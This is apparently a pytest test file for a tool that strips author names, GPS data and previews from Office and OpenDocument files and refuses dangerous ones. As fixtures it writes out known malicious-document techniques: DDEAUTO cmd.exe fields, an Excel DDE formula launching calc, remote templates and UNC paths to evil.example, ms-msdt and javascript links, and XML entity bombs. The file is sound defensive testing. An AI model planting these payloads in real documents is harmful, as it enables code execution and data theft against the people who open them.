"""Office documents: nothing that runs or fetches, and no names of people left behind."""

import pytest

from tests.vault.inspection.build import GPS, cleaned, exif, jpeg, look, notes, ole, png, refused
from tests.vault.inspection.build_zip import (
    MAIN,
    META,
    office,
    opendocument,
    packed_files,
    parts,
    relations,
)

NAMES = (b"Mele", b"Sione", b"Lagoons", b"Lupe", b"mele@customs")
RELS = "word/_rels/document.xml.rels"


@pytest.mark.parametrize("kind", MAIN)
def test_an_ordinary_document_passes(kind):
    verdict = look(office(kind), f"report.{kind}")
    assert (verdict.kind, verdict.refused, verdict.notes) == (kind, None, ())
    assert refused(office(kind), "report.zip") == "wrong-name"


@pytest.mark.parametrize("kind", MAIN)
def test_names_of_author_company_and_others_are_removed(kind):
    told = office(kind, properties=True)
    assert notes(told, f"report.{kind}") == {
        "author-removed",
        "properties-removed",
        "thumbnail-removed",
    }
    after = parts(cleaned(told, f"report.{kind}"))
    everything = b"".join(after.values())
    assert not any(name in everything for name in NAMES)
    assert "docProps/thumbnail.jpeg" not in after
    assert b"thumbnail" not in after["_rels/.rels"]
    assert b"core-properties" in after["_rels/.rels"]
    assert after[MAIN[kind][0]] == parts(told)[MAIN[kind][0]]
    assert notes(cleaned(told, f"report.{kind}"), f"report.{kind}") == set()


def test_a_preview_is_left_out_however_its_relation_is_written():
    whole = parts(office(properties=True))
    short = whole["_rels/.rels"]
    at = short.index(b'<Relationship Id="r4"')
    end = short.index(b"/>", at)
    whole["_rels/.rels"] = short[:end] + b">\n <x>odd</x> </Relationship>" + short[end + 2 :]
    after = parts(cleaned(packed_files(whole), "report.docx"))["_rels/.rels"]
    assert after == short[:at] + short[end + 2 :]


PEOPLE = [
    (
        "docx",
        "word/comments.xml",
        (
            b'<w:comments xmlns:w="u"><w:comment w:id="1" w:author="Mele Fonua" w:initials="MF">'
            b"<w:p>by whom? a&gt;b</w:p></w:comment></w:comments>"
        ),
    ),
    (
        "docx",
        "word/document2.xml",
        b"<w:doc xmlns:w='u'><w:ins w:author='Mele > Sione' w:id='2'>text</w:ins></w:doc>",
    ),
    (
        "docx",
        "word/people.xml",
        (
            b'<w15:people xmlns:w15="u"><w15:person w15:author="Mele"><w15:presenceInfo '
            b'w15:providerId="AD" w15:userId="S::mele@customs::1"/></w15:person></w15:people>'
        ),
    ),
    (
        "xlsx",
        "xl/comments1.xml",
        (
            b'<comments xmlns="u"><authors><author>Mele F</author><author>Sione</author></authors>'
            b"<commentList/></comments>"
        ),
    ),
    (
        "xlsx",
        "xl/comments/comment1.xml",
        b'<comments xmlns="u"><authors><author>Mele</author></authors></comments>',
    ),
    (
        "xlsx",
        "xl/persons/person.xml",
        (
            b'<personList xmlns="u"><person displayName="Mele" id="{1}" userId="mele@customs"/>'
            b"</personList>"
        ),
    ),
    (
        "pptx",
        "ppt/commentAuthors.xml",
        (
            b'<p:cmAuthorLst xmlns:p="u"><p:cmAuthor id="0" name="Mele" initials="Mele"/>'
            b"</p:cmAuthorLst>"
        ),
    ),
    (
        "pptx",
        "ppt/authors.xml",
        (
            b'<p188:authorLst xmlns:p188="u"><p188:author id="{1}" name="Mele" initials="Mele" '
            b'userId="S::mele@customs::1" providerId="AD"/></p188:authorLst>'
        ),
    ),
]


@pytest.mark.parametrize(("kind", "part", "content"), PEOPLE)
def test_authors_of_comments_and_changes_are_removed_and_their_words_stay(kind, part, content):
    told = office(kind, extra={part: content})
    assert notes(told, f"report.{kind}") == {"author-removed"}
    after = parts(cleaned(told, f"report.{kind}"))
    assert not any(name in after[part] for name in NAMES)
    assert b"Author" in after[part]
    for words in (b"by whom? a&gt;b", b">text<", b'id="1"', b'id="{1}"', b"<commentList/>"):
        assert (words in content) == (words in after[part])
    assert {n: c for n, c in after.items() if n != part} == {
        n: c for n, c in parts(told).items() if n != part
    }
    assert notes(cleaned(told, f"report.{kind}"), f"report.{kind}") == set()


def test_a_name_in_the_text_of_a_document_stays():
    told = office(body='<w:p>w:author="Mele" said so</w:p>')
    assert notes(told, "report.docx") == set()
    assert cleaned(told, "report.docx") == told


def test_a_photograph_in_a_document_loses_its_position():
    told = office(extra={"word/media/image1.jpeg": jpeg(exif(GPS))})
    assert notes(told, "report.docx") == {"position-removed"}
    assert parts(cleaned(told, "report.docx"))["word/media/image1.jpeg"] == jpeg()


def test_a_workbook_in_a_document_is_looked_at_and_cleaned_as_well():
    inner = office("xlsx", properties=True)
    told = office(extra={"word/embeddings/Sheet1.xlsx": inner})
    assert "author-removed" in notes(told, "report.docx")
    after = parts(cleaned(told, "report.docx"))["word/embeddings/Sheet1.xlsx"]
    assert not any(name in b"".join(parts(after).values()) for name in NAMES)
    bad = office("xlsx", extra={"xl/vbaProject.bin": b"x"})
    assert refused(office(extra={"word/embeddings/Sheet1.xlsx": bad}), "report.docx") == "macros"


@pytest.mark.parametrize(
    "document",
    [
        office(extra={"word/vbaProject.bin": b"x"}),
        office(extra={"word/VBAPROJECT.BIN": b"x"}),
        office("xlsx", extra={"xl/macrosheets/sheet1.xml": "<x/>"}),
        office(extra={"word/activeX/activeX1.xml": "<x/>"}),
        office(content_type="application/vnd.ms-word.document.macroEnabled.main+xml"),
        office(extra={RELS: relations(("http://schemas.microsoft.com/vbaProject", "hidden.bin"))}),
        office("xlsx", body='<definedName name="_xlnm.Auto_Open">a</definedName>'),
        office("pptx", body='<a:hlinkClick action="ppaction://macro?name=x"/>'),
    ],
)
def test_macros_are_refused(document):
    names = [f"report.{kind}" for kind in MAIN]
    assert "macros" in {refused(document, name) for name in names}


@pytest.mark.parametrize(
    ("relation", "reason"),
    [
        (("attachedTemplate", "https://evil.example/t.dotm", "External"), "outside-content"),
        (("image", "\\\\evil.example\\share\\a.png", "External"), "outside-content"),
        (("oleObject", "https://evil.example/a.html!", "External"), "outside-content"),
        (("frame", "https://evil.example/", "External"), "outside-content"),
        (("hyperlink", "\\\\evil.example\\share", "External"), "outside-content"),
        (("hyperlink", "file://evil.example/share", "External"), "outside-content"),
        (("hyperlink", "file:///\\\\evil.example\\a", "External"), "outside-content"),
        (("hyperlink", "ms-msdt:/id x", "External"), "outside-content"),
        (("hyperlink", "javascript:alert(1)", "External"), "outside-content"),
        (("oleObject", "embeddings/oleObject1.bin"), "embedded-object"),
        (("aFChunk", "afchunk.mht"), "embedded-object"),
        (("control", "activeX1.xml"), "macros"),
    ],
)
def test_what_a_document_fetches_or_carries_is_refused(relation, reason):
    assert refused(office(extra={RELS: relations(relation)}), "report.docx") == reason


@pytest.mark.parametrize(
    ("relation", "note"),
    [
        (("hyperlink", "https://www.ocosec.org/", "External"), set()),
        (("hyperlink", "mailto:iswg@example.org", "External"), set()),
        (("image", "media/image1.png"), set()),
        (("hyperlink", "file:///C:\\Users\\mele\\a.pdf", "External"), {"links-to-files"}),
        (("hyperlink", "annex.pdf", "External"), {"links-to-files"}),
        (("externalLinkPath", "other.xlsx", "External"), {"linked-workbook"}),
    ],
)
def test_links_that_wait_for_a_click_pass(relation, note):
    assert notes(office(extra={RELS: relations(relation)}), "report.docx") == note


@pytest.mark.parametrize(
    "content",
    [ole("VBA"), b"MZ" + bytes(40), b"\x7fELF" + bytes(40), b"%PDF-1.7", b"<html>", b"#!/bin/sh\n"],
)
@pytest.mark.parametrize("part", ["word/embeddings/oleObject1.bin", "word/media/image1.emf"])
def test_embedded_programs_and_objects_are_refused(part, content):
    assert refused(office(extra={part: content}), "report.docx") == "embedded-object"
    assert refused(office(extra={"word/media/image1.emf": b"\x01\0\0\0"}), "report.docx") == ""


SPREAD = "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in (" DD", "EAU", "TO c"))


@pytest.mark.parametrize(
    ("kind", "body"),
    [
        ("docx", "<w:fldChar/>" + SPREAD),
        ("docx", "<w:instrText>&#68;DE cmd</w:instrText>"),
        ("docx", "<w:instrText><![CDATA[DDE cmd]]></w:instrText>"),
        ("docx", '<w:fldSimple w:instr="DDEAUTO c:\\cmd.exe"/>'),
        ("xlsx", "<f>cmd|'/C calc'!A0</f>"),
        ("xlsx", '<f t="x">msexcel|x!A</f>'),
        ("xlsx", "<ddeLink ddeService='cmd' ddeTopic='x'/>"),
        ("pptx", '<a:hlinkClick action="ppaction://program"/>'),
    ],
)
def test_documents_that_start_another_program_are_refused(kind, body):
    assert refused(office(kind, body=body), f"report.{kind}") == "dde"


@pytest.mark.parametrize(
    ("kind", "body"),
    [
        ("docx", "<w:fldChar/><w:instrText> PAGE </w:instrText><w:t>DDE is a danger</w:t>"),
        ("docx", '<w:instrText> HYPERLINK "https://example.org/dde" </w:instrText>'),
        ("xlsx", "<f>IF(A1,B1,Sheet2!C1)</f>"),
        ("xlsx", "<v>a|b!c</v>"),
    ],
)
def test_ordinary_fields_and_formulas_pass(kind, body):
    assert refused(office(kind, body=body), f"report.{kind}") == ""


BOMB = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>'
OUTSIDE = '<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x/>'


@pytest.mark.parametrize(
    "part", ["word/styles.xml", "[Content_Types].xml", RELS, "custom/item.xml"]
)
@pytest.mark.parametrize("content", [BOMB, OUTSIDE])
def test_entities_are_refused_in_every_part(part, content):
    assert refused(office(extra={"word/styles.xml": "<x>&amp;</x>"}), "report.docx") == ""
    document = office(extra={part: content}) if part[0] != "[" else types_part(content)
    assert refused(document, "report.docx") == "xml-entities"


def types_part(content: str) -> bytes:
    whole = {**parts(office()), "[Content_Types].xml": content}
    return packed_files(whole)


def test_an_entity_far_into_a_part_is_met_too():
    body = "<w:p/>" * 30_000 + "<!DOCTYPE x>"
    assert refused(office(body="<w:p/>" * 30_000), "report.docx") == ""
    assert refused(office(body=body), "report.docx") == "xml-entities"


@pytest.mark.parametrize(
    "content",
    ["<x/>".encode("utf-16"), b"<\0x\0/\0>\0", b"<?xml version='1.0' encoding='UTF-7'?><x/>"],
)
def test_parts_in_an_unusual_encoding_are_refused(content):
    assert refused(office(extra={"word/styles.xml": content}), "report.docx") == "xml-encoding"
    plain = b"<?xml version='1.0' encoding='UTF-8'?><x/>"
    assert refused(office(extra={"word/styles.xml": plain}), "report.docx") == ""


@pytest.mark.parametrize(
    "content",
    [
        "<Relationships" + " a='b'" * 200_000,
        "<x>" * 300,
        "<x>",
        "".join(f"<a{n}/>" for n in range(6000)),
    ],
)
def test_parts_built_to_exhaust_a_parser_are_refused(content):
    assert refused(office(extra={RELS: content}), "report.docx") in ("too-much-work", "damaged")


# --- OpenDocument -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("kind", "ending"), [("text", "odt"), ("spreadsheet", "ods"), ("presentation", "odp")]
)
def test_an_open_document_loses_its_author_and_its_preview(kind, ending):
    note = "<office:annotation><dc:creator>Mele</dc:creator><text:p>ok</text:p></office:annotation>"
    told = opendocument(kind, body=note, extra={"Thumbnails/thumbnail.png": png()})
    assert look(told, f"report.{ending}").kind == ending
    assert notes(told, f"report.{ending}") == {"author-removed", "thumbnail-removed"}
    after = parts(cleaned(told, f"report.{ending}"))
    assert not any(name in b"".join(after.values()) for name in NAMES)
    assert b"<text:p>ok</text:p>" in after["content.xml"]
    assert b"Thumbnails" not in after["META-INF/manifest.xml"]
    assert "Thumbnails/thumbnail.png" not in after
    assert next(iter(after)) == "mimetype"
    assert notes(cleaned(told, f"report.{ending}"), f"report.{ending}") == set()


@pytest.mark.parametrize(
    ("document", "reason"),
    [
        (opendocument(extra={"Basic/script-lc.xml": "<x/>"}), "macros"),
        (opendocument(extra={"Scripts/python/a.py": "x"}), "macros"),
        (opendocument(body='<x xlink:href="vnd.sun.star.script:a"/>'), "macros"),
        (opendocument(body='<draw:image xlink:href="http://evil.example/a.png"/>'),
         "outside-content"),
        (opendocument(body='<draw:object xlink:href="\\\\evil\\a"/>'), "outside-content"),
        (opendocument(body='<office:dde-source office:dde-application="x"/>'), "dde"),
        (opendocument(entry="<manifest:encryption-data/>"), "locked"),
        (opendocument(extra={"Object 1": ole("x")}), "embedded-object"),
        (opendocument(body="<!DOCTYPE x>"), "xml-entities"),
        (opendocument("graphics"), "unsupported"),
    ],
)  # fmt: skip
def test_open_documents_that_run_fetch_or_hide_are_refused(document, reason):
    assert refused(document, "report") == reason


def test_an_ordinary_link_and_picture_in_an_open_document_pass():
    body = (
        '<text:a xlink:href="https://www.ocosec.org/">OCO</text:a>'
        '<draw:image xlink:href="Pictures/a.jpg"/>'
    )
    told = opendocument(body=body, meta=META, extra={"Pictures/a.jpg": jpeg()})
    assert refused(told, "report.odt") == ""
